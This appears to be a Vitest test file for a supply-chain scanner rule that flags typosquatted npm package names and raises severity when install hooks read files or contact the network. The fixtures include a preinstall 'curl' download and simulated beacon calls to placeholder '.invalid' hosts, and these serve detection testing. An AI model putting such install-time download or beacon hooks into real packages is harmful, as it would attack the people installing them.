import { describe, expect, it } from 'vitest';
import type { MetadataSignal } from '../../analysis/manifest/metadata-signals.js';
import { at, call, packageFacts } from '../rule-test-kit.js';
import { metadataTyposquatName as rule } from './metadata-typosquat-name.js';

const squat: MetadataSignal = {
  kind: 'typosquat',
  match: { name: 'expresss', target: 'express', kind: 'edit-distance', distance: 1, targetRank: 338 },
};

describe('metadata-typosquat-name', () => {
  it('is medium/medium for the name alone', () => {
    const findings = rule.run(packageFacts({ metadata: [squat] }));
    expect(findings).toMatchObject([{ severity: 'medium', confidence: 'medium' }]);
    expect(findings[0]?.message).toContain('"express"');
  });

  it('stays medium when the install hook is a known build helper', () => {
    const facts = packageFacts({
      manifest: { installScripts: { install: 'node-gyp rebuild' } },
      metadata: [squat],
    });
    expect(rule.run(facts)).toMatchObject([{ severity: 'medium', confidence: 'medium' }]);
  });

  it('is high/medium when the look-alike runs its own code at install', () => {
    const facts = packageFacts({
      manifest: { installScripts: { postinstall: 'node setup.js' } },
      code: [call('fs.readFileSync', 'filesystem-read', at('setup.js'))],
      metadata: [squat],
    });
    expect(rule.run(facts)).toMatchObject([{ severity: 'high', confidence: 'medium' }]);
  });

  it('is decisive when the install-time file reaches the network', () => {
    const facts = packageFacts({
      manifest: { installScripts: { postinstall: 'node setup.js' } },
      code: [call('https.get', 'network', at('setup.js'), ['https://beacon.invalid/'])],
      metadata: [squat],
    });
    expect(rule.run(facts)).toMatchObject([{ severity: 'high', confidence: 'high' }]);
  });

  it('is decisive when the hook itself downloads', () => {
    const facts = packageFacts({
      manifest: { installScripts: { preinstall: 'curl -s https://x.invalid/p -o p' } },
      metadata: [squat],
    });
    expect(rule.run(facts)).toMatchObject([{ confidence: 'high' }]);
  });

  it('grades names two edits away one step lower (cypress is two edits from express)', () => {
    const far: MetadataSignal = {
      kind: 'typosquat',
      match: { name: 'cypress', target: 'express', kind: 'edit-distance', distance: 2, targetRank: 338 },
    };
    const withHook = (code: ReturnType<typeof call>[]) =>
      rule.run(
        packageFacts({
          manifest: { installScripts: { postinstall: 'node index.js --exec install' } },
          code,
          metadata: [far],
        }),
      );
    expect(rule.run(packageFacts({ metadata: [far] }))).toMatchObject([
      { severity: 'medium', confidence: 'low' },
    ]);
    expect(withHook([call('fs.readFileSync', 'filesystem-read', at('index.js'))])).toMatchObject([
      { severity: 'medium', confidence: 'medium' },
    ]);
    expect(withHook([call('https.get', 'network', at('index.js'), ['https://x.invalid'])])).toMatchObject([
      { severity: 'high', confidence: 'medium' },
    ]);
  });

  it('grades a generic word beside a brand below edit distance, never decisive (plain-crypto-js)', () => {
    const brand: MetadataSignal = {
      kind: 'typosquat',
      match: { name: 'plain-crypto-js', target: 'crypto-js', kind: 'brand', distance: 0, targetRank: 0 },
    };
    const withHook = (code: ReturnType<typeof call>[]) =>
      rule.run(
        packageFacts({
          manifest: { installScripts: { postinstall: 'node setup.js' } },
          code,
          metadata: [brand],
        }),
      );
    const alone = rule.run(packageFacts({ metadata: [brand] }));
    expect(alone).toMatchObject([{ severity: 'low', confidence: 'low' }]);
    expect(alone[0]?.message).toContain('a generic word added to the popular package "crypto-js"');
    expect(withHook([call('fs.readFileSync', 'filesystem-read', at('setup.js'))])).toMatchObject([
      { severity: 'medium', confidence: 'low' },
    ]);
    expect(withHook([call('https.get', 'network', at('setup.js'), ['https://x.invalid'])])).toMatchObject([
      { severity: 'medium', confidence: 'medium' },
    ]);
  });

  it('is silent without the signal', () => {
    expect(rule.run(packageFacts({ manifest: { installScripts: { postinstall: 'node x.js' } } }))).toEqual(
      [],
    );
  });
});
